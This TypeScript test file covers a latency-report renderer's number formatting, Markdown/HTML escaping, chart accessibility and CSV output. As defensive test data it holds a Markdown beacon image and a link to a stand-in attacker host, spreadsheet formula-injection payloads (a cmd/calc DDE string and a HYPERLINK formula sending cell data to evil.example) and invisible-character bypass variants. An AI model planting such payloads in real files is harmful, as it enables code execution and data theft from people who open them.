/**
 * loadFormat: the report's load values keep their usual digits (whole from 10 up, else 3 significant), and get
 * as many more as keep different values apart.
 */
import { ioShare, percentileCurves, p99PerChip, renderSvg, rollingR, scatterWithLines } from '../../../../services/reports/charts.ts';
import { describe, expect, it } from 'vitest';
import type { LoadLatencyReport } from '../../../../services/reports/load-latency.ts';
import { loadFormat, mdCell, reportHtml, reportSummary, withEmptyNote } from '../../../../services/reports/report-render.ts';
import { reportCsv } from '../../../../services/reports/load-latency.ts';

describe('loadFormat', () => {
  it('prints the usual digits where they tell the values apart', () => {
    const f = loadFormat([0.1234, 0.5678, 12.4, 37.9]);
    expect([0.1234, 0.5678, 12.4, 37.9].map(f)).toEqual(['0.123', '0.568', '12', '38']);
  });

  it('adds digits until different edges read differently (0.1231 and 0.1234 both read 0.123 before)', () => {
    const edges = [0.1231, 0.1234, 0.5];
    expect(edges.map(loadFormat(edges))).toEqual(['0.1231', '0.1234', '0.5']);
    const rates = [15.2, 15.4, 16];
    expect(rates.map(loadFormat(rates))).toEqual(['15.2', '15.4', '16.0']);
  });

  it('equal values and non-finite ones do not ask for digits', () => {
    const f = loadFormat([3, 3, 0.25, Number.NaN]);
    expect([3, 0.25].map(f)).toEqual(['3', '0.25']);
  });
});

describe('summary.md with ids from the data', () => {
  it('escapes what breaks a Markdown table or a terminal: |, a newline, raw HTML; plain ids stay as they are', () => {
    expect(mdCell('edge-01')).toBe('edge-01');
    expect(mdCell('mod|el,"q"\n')).toBe('mod\\|el,"q"\\u000a');
    expect(mdCell('<script>x&y</script>')).toBe('&lt;script&gt;x&amp;y&lt;/script&gt;');
    expect(mdCell('a\\|b\u001b[31m')).toBe('a\\\\\\|b\\u001b\\[31m');
    // Links and images from the data render as text (a trial: a server id `![x](http://…)` was an image that called out).
    expect(mdCell('![x](http://evil.example/beacon.png)')).toBe('!\\[x\\](http://evil.example/beacon.png)');
    expect(mdCell('[Click](http://evil.example/login)')).toBe('\\[Click\\](http://evil.example/login)');
    const row = (chip: string, model_id: string) => ({ chip, model_id, bucket: 0, load_low: 0.2, load_high: 0.9, n: 40, p50_ms: 10, p90_ms: 20, p99_ms: 30, mean_ms: 12, failed: 0 });
    const report: LoadLatencyReport = {
      options: { metric: 'cpu_util', sloP99Ms: 25, model: 'mod|el' },
      edges: [0.2, 0.9],
      latency: [row('*', '*'), row('<b>chip', 'mod|el\nx')],
      io: [],
      sensitive: [{ edge_server_id: 'edge|1', model_id: 'mod|el\nx', chip: '<b>chip', n: 40, pearson_r: 0.5, slope_ms_per_unit: 3, relative_slope: 0.2, mean_ms: 12 }],
      lines: [], correlation: [], scatter: [],
      knees: [{ chip: '<b>chip', model_id: 'mod|el\nx', status: 'misses_from_lowest', slo_p99_ms: 25, bucket: 0, load_low: 0.2, load_high: 0.9, p99_ms: 30, n: 40 }],
      requests: 40, failed: 0,
    };
    const md = reportSummary(report);
    const tables = md.split('\n').filter((l) => l.startsWith('|'));
    // Every row of a table has its header's cells: 6 columns, 5, 3, 6 (no split cell, no split row).
    const cells = (l: string) => l.split(/(?<!\\)\|/).length - 2;
    expect(tables.map(cells)).toEqual([6, 6, 6, 5, 5, 5, 3, 3, 6, 6, 6]);
    expect(md).toContain('| &lt;b&gt;chip | mod\\|el\\u000ax | 0.2 – 0.9 (misses from the lowest load) | 30.0 | 40 |');
    expect(md).toContain('| edge\\|1 | mod\\|el\\u000ax | &lt;b&gt;chip | 0.500 | 3.00 | 40 |');
    expect(md).toContain('(all data, model mod\\|el)');
    // A slope below 10 keeps 3 significant digits (a trial: 0.0146 ms per request/s read 0.0 beside its r, 1.46 read 1.5).
    const small = (slope: number) => reportSummary({ ...report, sensitive: [{ ...report.sensitive[0]!, slope_ms_per_unit: slope }] });
    expect([small(0.014_63), small(-0.000_123_4), small(0), small(1.463), small(0.9996), small(-9.996), small(12.34), small(1234.5)].map((m) => /\| 0\.500 \| (\S+) \| 40 \|/.exec(m)?.[1]))
      .toEqual(['0.0146', '-0.000123', '0.0', '1.46', '1.00', '-10.0', '12.3', '1,234.5']);
    // An r that rounds to zero has no sign (a trial: −0.00013 read -0.000).
    const r = (pearson: number) => /\| \S+ \| \S+ \| \S+ \| (\S+) \| 3\.00 \| 40 \|/.exec(reportSummary({ ...report, sensitive: [{ ...report.sensitive[0]!, pearson_r: pearson }] }))?.[1];
    expect([r(-0.000_13), r(0.000_4), r(-0.0006), r(0.5)]).toEqual(['0.000', '0.000', '-0.001', '0.500']);
    // Two edges from nine deciles: said why (a trial: queue_depth's "edges 0", two buckets, no word); nine edges say nothing more.
    expect(md).toContain('- Load buckets: deciles of cpu_util (nearest rank; edges 0.2, 0.9; deciles that fall on one value are one edge, so fewer than 10 buckets: --bucket-width gives fixed bins).\n');
    const nine = reportSummary({ ...report, edges: [1, 2, 3, 4, 5, 6, 7, 8, 9] });
    expect(nine).toContain('- Load buckets: deciles of cpu_util (nearest rank; edges 1, 2, 3, 4, 5, 6, 7, 8, 9).\n');
    // Filtered to a model, the first table is not the fleet's (a trial: "Fleet latency by load" above one server's rows).
    expect(md).toContain('## Latency by load (model mod\\|el)');
    expect(md).not.toContain('Fleet latency');
    expect(md).not.toMatch(/<b>|mod\|el\n/);
  });
});

describe('summary.md: one precision for every load value', () => {
  const row = (chip: string, bucket: number, low: number, high: number, n: number) => ({ chip, model_id: chip === '*' ? '*' : 'm', bucket, load_low: low, load_high: high, n, p50_ms: 10, p90_ms: 20, p99_ms: 30 + bucket, mean_ms: 12, failed: bucket });
  const report = (requests: number): LoadLatencyReport => ({
    options: { metric: 'cpu_util', sloP99Ms: 30.5 },
    // The bucket ranges run to 0.0937 and from 0.0938: the edges and the knee's range must read with the same digits
    // (a trial: "edges 0.0937, 0.161" beside the table's "0.0938 – 0.1611" and the knee's "0.0938 – 0.161").
    edges: [0.0937, 0.1611],
    latency: [row('*', 0, 0.03, 0.0937, 200), row('*', 1, 0.0938, 0.1611, 200), row('*', 2, 0.1612, 0.34, 200), row('c', 0, 0.03, 0.0937, 150), row('c', 1, 0.0938, 0.1611, 150)],
    io: [], sensitive: [], lines: [], correlation: [], scatter: [],
    knees: [{ chip: 'c', model_id: 'm', status: 'knee', slo_p99_ms: 30.5, bucket: 1, load_low: 0.0938, load_high: 0.1611, p99_ms: 31, n: 150 }],
    requests, failed: 3,
  });

  it('prints the edges, the fleet ranges and the knee ranges with the digits that tell all of them apart', () => {
    const md = reportSummary(report(600));
    expect(md).toContain('edges 0.0937, 0.1611;');
    expect(md).toContain('| 1 | 0.0938 – 0.1611 | 200 |');
    expect(md).toContain('| c | m | 0.0938 – 0.1611 | 31.0 | 150 |');
    expect(md).toContain('Data: 600 requests with a load sample');
    expect(md).toContain('## Fleet latency by load');
  });

  it('says how many requests failed and that they are in the percentiles (a trial: a p99 with timeouts, not said)', () => {
    expect(reportSummary(report(600))).toContain('- Every request counts, whatever its status: 3 of the 600 failed (timeout or error) and are in the percentiles at the latency they took (a timeout: the time until it timed out); report.csv gives each bucket\'s `failed`.');
  });

  it('says "meets" of the counted buckets only, naming a smaller bucket above the SLO (a trial: "at every observed load" beside one)', () => {
    const r = report(600);
    const thin = { chip: 'c', model_id: 'm', bucket: 2, load_low: 0.1612, load_high: 0.34, n: 27, p50_ms: 10, p90_ms: 20, p99_ms: 38.1, mean_ms: 12, failed: 0 };
    const meets = { ...r.knees[0]!, status: 'meets' as const, bucket: null, load_low: null, load_high: null, p99_ms: null, n: null, slo_p99_ms: 37 };
    expect(reportSummary({ ...r, latency: [...r.latency, thin], knees: [meets] })).toContain('| c | m | meets the SLO in every bucket of 100 requests or more; bucket 2, with fewer, is above it | – | – |');
    // No small bucket: every observed load, as before.
    expect(reportSummary({ ...r, knees: [meets] })).toContain('| c | m | meets the SLO at every observed load | – | – |');
  });

  it('says "1 request" of one, and nothing of failures among none', () => {
    expect(reportSummary(report(1))).toContain('Data: 1 request with a load sample (all data).');
    expect(reportSummary({ ...report(0), failed: 0 })).not.toContain('Every request counts');
  });

  it('leaves out the i/o row of all chips where one chip has rows (it repeats it: a trial), and names what "all" is under a filter', async () => {
    const io = (chip: string, share: number) => [0, 1].map((bucket) => ({ chip, bucket, load_low: bucket, load_high: bucket + 0.5, n: 100, io_ms_sum: share, compute_ms_sum: 1 - share, io_share: share, compute_share: 1 - share }));
    const one = { ...report(600), options: { ...report(600).options, chip: 'c' }, io: [...io('*', 0.25), ...io('c', 0.25)] };
    const md = reportSummary(one);
    expect(md).toContain('| c | 25.0 % | 25.0 % |');
    expect(md).not.toMatch(/\| all/);
    expect(await reportHtml(one)).toMatch(/aria-label="Line chart of i\/o wait as a share of service time \(0 to 100 %\) against cpu_util, for c\. /);
    const two = { ...report(600), options: { ...report(600).options, server: 'e1' }, io: [...io('*', 0.3), ...io('c', 0.2), ...io('d', 0.4)] };
    expect(reportSummary(two)).toContain('| all (server e1) | 30.0 % | 30.0 % |');
    expect(await reportHtml(two)).toContain('for all (server e1), c, d (the all (server e1) line dashed).');
  });

  it('the fleet chart\'s description writes the highest load and its p99 as the table does (a trial: "p99 is 5070 ms" beside 5,073.0)', async () => {
    const r = report(600);
    const top = { ...r.latency[2]!, p99_ms: 5073.04 };
    const html = await reportHtml({ ...r, latency: [r.latency[0]!, r.latency[1]!, top, ...r.latency.slice(3)] });
    expect(html).toContain('aria-label="Line chart of p50, p90 and p99 latency in ms (log scale) against cpu_util, over 3 load buckets; at the highest load, 0.34, p99 is 5,073.0 ms;');
    expect(html).toContain('<tr><td class="text">2</td><td>0.1612 – 0.34</td><td>200</td><td>10.0</td><td>20.0</td><td>5,073.0</td></tr>');
  });
});

describe('charts: the SLO labelled, thin buckets hollow in the per-chip p99 (two trials)', () => {
  const row = (chip: string, bucket: number, n: number) => ({ chip, model_id: 'm', bucket, load_low: bucket, load_high: bucket + 0.5, n, p50_ms: 1, p90_ms: 2, p99_ms: 3, mean_ms: 1, failed: 0 });
  it('marks buckets under minRequests as thin (drawn hollow), says how many, and labels the SLO rule', () => {
    const spec = p99PerChip([row('*', 0, 500), row('c', 0, 150), row('c', 1, 8), row('d', 0, 99)], 'cpu_util', 50, 100) as unknown as {
      title: { text: string; subtitle: string }; data: { values: { chip: string; thin: boolean }[] };
      spec: { layer: { mark: { type: string }; encoding: { text?: { value: string }; fillOpacity?: { condition: { test: string; value: number } } } }[] };
    };
    expect(spec.data.values.map((v) => [v.chip, v.thin])).toEqual([['c', false], ['c', true], ['d', true]]);
    expect(spec.title.subtitle).toBe('hollow points: 2 bucket(s) of fewer than 100 requests (a p99 of so few is little more than the slowest one)');
    expect(spec.spec.layer.map((l) => l.mark.type)).toEqual(['line', 'point', 'rule', 'text']);
    expect(spec.spec.layer[1]!.encoding.fillOpacity).toEqual({ condition: { test: 'datum.thin', value: 0 }, value: 1 });
    expect(spec.spec.layer[3]!.encoding.text!.value).toBe('SLO p99 50 ms');
    const fleet = percentileCurves([row('*', 0, 500)], 'cpu_util', 37) as unknown as { layer: { mark: { type: string }; encoding: { text?: { value: string } } }[] };
    expect(fleet.layer.map((l) => l.mark.type)).toEqual(['line', 'rule', 'text']);
    expect(fleet.layer[2]!.encoding.text!.value).toBe('SLO p99 37 ms');
  });

  it('draws the SLO rule and its label once a chart (once a chip), and each chart is one image named in words (two trials)', async () => {
    // A trial: the rule and the label were drawn once per data row (181 copies); no chart had an accessible name, while
    // 1,764 points each had one.
    const rows = [0, 1, 2, 3].flatMap((b) => [row('*', b, 500), row('c', b, 150), row('d', b, 150)]);
    const perChip = await renderSvg(p99PerChip(rows, 'cpu_util', 50, 100));
    const fleet = await renderSvg(percentileCurves(rows.filter((x) => x.chip === '*'), 'cpu_util', 37));
    expect([perChip.split('SLO p99 50 ms</text>').length - 1, fleet.split('SLO p99 37 ms</text>').length - 1]).toEqual([2, 1]);
    expect(fleet).toMatch(/^<svg role="img" aria-label="Line chart of p50, p90 and p99 latency in ms \(log scale\) against cpu_util, over 4 load buckets; at the highest load, 3\.5, p99 is 3 ms; the SLO, p99 37 ms, is a dashed rule\. The table &quot;Fleet latency by load&quot; gives the numbers\." [^>]*><title>Line chart of p50/);
    expect(perChip).toMatch(/^<svg role="img" aria-label="Small line charts, one per chip \(c, d\), of each model's p99 latency/);
    // The data marks carry no ARIA of their own (the image's name says what they show).
    expect([fleet, perChip].map((svg) => (svg.match(/role="graphics-symbol"[^>]*aria-label="[^"]*ms: /g) ?? []).length)).toEqual([0, 0]);
    // Lines told apart by dash as well as colour (a re-test: the rolling r's and the least-squares lines by colour alone).
    const r = rollingR([{ edge_server_id: 'e1', model_id: 'm', window_end: '2024-06-01 10:00:00.000', pearson_r: 0.5, ci_low: 0.4, ci_high: 0.6 }] as never, 'cpu_util') as unknown as { layer: { encoding: { strokeDash?: { field: string } } }[] };
    const lines = scatterWithLines([], [{ chip: 'c', load_min: 0, load_max: 1, latency_at_load_min_ms: 1, slope_ms_per_unit: 1 }] as never, 'cpu_util') as unknown as { layer: { encoding: { strokeDash?: { field: string } } }[] };
    expect([r.layer[1]!.encoding.strokeDash?.field, lines.layer[1]!.encoding.strokeDash?.field]).toEqual(['key', 'chip']);
  });

  it('the rolling r\'s legend shows each series as a stroke in its colour and dash (a trial: filled circles, the dashes hidden)', async () => {
    const points = ['e1', 'e2', 'e3'].flatMap((e, j) => [0, 1, 2].map((i) => ({ edge_server_id: e, model_id: 'm', window_end: `2024-06-01 10:0${i}:00.000`, pearson_r: 0.1 * (i + j), ci_low: -0.2, ci_high: 0.6, n: 40 })));
    const svg = await renderSvg(rollingR(points as never, 'cpu_util'));
    const legend = svg.slice(svg.indexOf('role-legend'));
    const symbols = [...legend.matchAll(/class="mark-symbol role-legend-symbol"[^>]*><path [^>]*d="M-10,0L10,0" fill="#[0-9a-f]{6}" stroke="(#[0-9a-f]{6})" stroke-width="2" stroke-dasharray="([\d,]+)"/g)].map((m) => [m[1], m[2]]);
    expect(symbols).toHaveLength(3);
    expect(new Set(symbols.map((x) => x[0])).size).toBe(3);
    expect(new Set(symbols.map((x) => x[1])).size).toBe(3);
    // One legend, not one for the band and one for the lines.
    expect(svg.split('aria-roledescription="legend"').length - 1).toBe(1);
  });

  it('gives a chip one colour and shape in the scatter and the i/o chart, and the fleet a grey of its own (a trial: every chip moved one colour along)', () => {
    type Enc = { color: { scale: { domain: string[]; range: string[] } }; shape: { scale: { domain: string[]; range: string[] } } };
    const chips = ['orin', 'xavier', 'pi4'];
    const scatter = scatterWithLines([{ chip: 'xavier', x: 0.1, total_ms: 5 }] as never, [], 'cpu_util', chips) as unknown as { layer: { encoding: Enc }[] };
    const io = ioShare([{ chip: '*', load_high: 0.5, io_share: 0.2 }, { chip: 'orin', load_high: 0.5, io_share: 0.3 }] as never, 'cpu_util', 'fleet', chips) as unknown as { encoding: Enc };
    const colourOf = (e: Enc) => Object.fromEntries(e.color.scale.domain.map((d, i) => [d, e.color.scale.range[i]]));
    expect(colourOf(scatter.layer[0]!.encoding)).toEqual({ orin: '#4c78a8', pi4: '#f58518', xavier: '#e45756' });
    expect(colourOf(io.encoding)).toEqual({ orin: '#4c78a8', pi4: '#f58518', xavier: '#e45756', fleet: '#7f7f7f' });
    expect([scatter.layer[0]!.encoding.shape.scale.domain, io.encoding.shape.scale.domain]).toEqual([['orin', 'pi4', 'xavier'], ['orin', 'pi4', 'xavier', 'fleet']]);
    expect(io.encoding.shape.scale.range).toEqual(['circle', 'square', 'triangle-up', 'triangle-down']);
    // Without the fleet's rows (one chip: the report leaves the repeat out), no fleet entry in the legend.
    const alone = ioShare([{ chip: 'orin', load_high: 0.5, io_share: 0.3 }] as never, 'cpu_util', 'all (chip orin)', ['orin']) as unknown as { encoding: Enc };
    expect([alone.encoding.color.scale.domain, alone.encoding.shape.scale.range]).toEqual([['orin'], ['circle']]);
  });
});

describe('report.html: tables for assistive technology and long ids', () => {
  const base = {
    options: { metric: 'cpu_util' }, edges: [], latency: [], knees: [], io: [], lines: [], correlation: [], scatter: [], requests: 0, failed: 0,
  } as unknown as LoadLatencyReport;

  it('gives column headers a scope, the note as caption, one alignment per column, a row that says none, and code spans as code', async () => {
    const long = `srv-${'ü'.repeat(300)}`;
    const html = await reportHtml({ ...base, requests: 10, sensitive: [{ edge_server_id: long, model_id: 'm', chip: 'c', pearson_r: 0.5, slope_ms_per_unit: 1.5, n: 10, relative_slope: null, mean_ms: 3 }] } as unknown as LoadLatencyReport);
    const sensitive = html.slice(html.indexOf('<h2>Most load-sensitive servers</h2>'));
    expect(sensitive).toContain('<table><caption>Pearson r of cpu_util and total latency over the rows of each (server, model); slope by least squares.</caption><thead><tr><th scope="col" class="text">server</th><th scope="col" class="text">model</th><th scope="col" class="text">chip</th><th scope="col">r</th>');
    // A long id wraps (class text: overflow-wrap anywhere), not a 3,482 px table (a trial).
    expect(sensitive).toContain(`<td class="text">${long}</td><td class="text">m</td><td class="text">c</td><td>0.500</td>`);
    expect(html).toMatch(/\.text\{text-align:left;overflow-wrap:anywhere\}/);
    // An empty table says so; the summary's `failed` is code, not backticks (a trial saw them on the page).
    expect(html).toContain('<tr><td colspan="3" class="text">no rows</td></tr>');
    expect(html).toContain('report.csv gives each bucket\'s <code>failed</code>.');
    expect(html).not.toContain('`');
    // The empty report's reason goes under the heading.
    expect(withEmptyNote(html, 'none matches; `edgelat sql "SELECT 1"` lists <them>')).toContain('</h1>\n<p class="empty"><strong>Empty:</strong> none matches; <code>edgelat sql &quot;SELECT 1&quot;</code> lists &lt;them&gt;.</p>\n');
  });
});

describe('reportCsv', () => {
  it('puts a quote before text a spreadsheet would run as a formula (= + - @ tab CR); numbers, negative ones too, stay numbers (a trial: a server id =HYPERLINK(…) came through telemetry)', () => {
    const report = {
      options: { metric: 'gpu_util' }, edges: [], latency: [], knees: [], io: [], lines: [], correlation: [],
      sensitive: [{ chip: '+chip', model_id: '=2+5*cmd|\' /C calc\'!A0', edge_server_id: '=HYPERLINK("http://evil.example/?x="&A1,"edge-07")', n: 600, pearson_r: -0.5, slope_ms_per_unit: -1.25, relative_slope: null, mean_ms: 9.8 }],
    } as unknown as Parameters<typeof reportCsv>[0];
    const rows = reportCsv(report).trim().split('\n').filter((l) => l.startsWith('load_sensitive_servers'));
    expect(rows[0]).toBe(`load_sensitive_servers,'+chip,'=2+5*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?x=""&A1,""edge-07"")",,,n,600`);
    expect(rows[1]).toMatch(/,pearson_r,-0\.5$/);
    expect(rows[2]).toMatch(/,slope_ms_per_unit,-1\.25$/);
    for (const id of ['@srv', '-srv', '\tsrv', ' =HYPERLINK("x")', '\u00a0=1+1', '\ufeff=1+1', '\uff1d1+1', '\n=1+1', '\u200b=4+4', '\u2060\u200e+1', '\u034f=1', '\ufe0f=1', '\u180b=1', '\u3164=1', '\u0000=1', 'edge-01', 'a=b', '\u200bedge']) {
      const csv = reportCsv({ ...report, sensitive: [{ ...(report as { sensitive: object[] }).sensitive[0], edge_server_id: id }] } as never);
      const line = csv.split('\n').findIndex((l) => l.startsWith('load_sensitive_servers'));
      // The id's cell: quoted when it holds a quote, a comma or a line break.
      const rest = csv.split('\n').slice(line).join('\n').slice('load_sensitive_servers,\'+chip,'.length);
      const afterModel = rest.slice(rest.indexOf(',', rest.indexOf("!A0")) + 1);
      // A zero-width space or another invisible format character before the sign too (a trial: ZWSP then = passed).
      const want = ['edge-01', 'a=b', '\u200bedge'].includes(id) ? id : `'${id}`;
      expect(afterModel.startsWith(/[",\n\r]/.test(want) ? `"${want.replaceAll('"', '""')}",` : `${want},`), JSON.stringify(id)).toBe(true);
    }
  });

  it('writes sums\' statistics to 10 significant digits (the last bits of a parallel sum vary between runs: a trial), data values and the stream\'s r exactly', () => {
    const report = {
      options: { metric: 'cpu_util' }, edges: [0.1234567890123456], knees: [],
      latency: [{ chip: '*', model_id: '*', bucket: 0, load_low: 0.01, load_high: 0.1234567890123456, n: 7, failed: 0, p50_ms: 1.0000000000000002, p90_ms: 2, p99_ms: 3, mean_ms: 1.2345678901234567 }],
      io: [{ chip: '*', bucket: 0, load_low: 0.01, load_high: 0.5, n: 7, io_ms_sum: 12345.678901234567, compute_ms_sum: 1, io_share: 0.9999190097, compute_share: 0.000080990301234567 }],
      sensitive: [{ chip: 'c', model_id: 'm', edge_server_id: 'e', n: 600, pearson_r: 0.12243932510321194, slope_ms_per_unit: -1.25, relative_slope: null, mean_ms: 9.8 }],
      lines: [{ chip: 'c', n: 9, slope_ms_per_unit: 3.3333333333333335, intercept_ms: -0.1, pearson_r: 1, load_min: 0.1234567890123456, load_max: 0.9, latency_at_load_min_ms: 2.7182818284590455 }],
      correlation: [{ edge_server_id: 'e', model_id: 'm', window_end: '2024-06-01 10:05:00.000', n: 40, pearson_r: 0.30000000000000004, ci_low: 0.1, ci_high: 0.5 }],
    } as unknown as Parameters<typeof reportCsv>[0];
    const value = (table: string, metric: string): string => reportCsv(report).split('\n').find((l) => l.startsWith(`${table},`) && l.includes(`,${metric},`))!.split(',').at(-1)!;
    expect([value('latency_by_load', 'mean_ms'), value('io_compute_share', 'io_ms_sum'), value('io_compute_share', 'compute_share'), value('load_sensitive_servers', 'pearson_r'), value('least_squares', 'slope_ms_per_unit'), value('least_squares', 'latency_at_load_min_ms')])
      .toEqual(['1.23456789', '12345.6789', '0.00008099030123', '0.1224393251', '3.333333333', '2.718281828']);
    // Order statistics, loads and counts are values of the data; the rolling r was computed once, by the stream.
    expect([value('bucket_edges', 'edge'), value('latency_by_load', 'load_high'), value('latency_by_load', 'p50_ms'), value('least_squares', 'load_min'), value('correlation_over_time', 'pearson_r')])
      .toEqual(['0.1234567890123456', '0.1234567890123456', '1.0000000000000002', '0.1234567890123456', '0.30000000000000004']);
  });
});
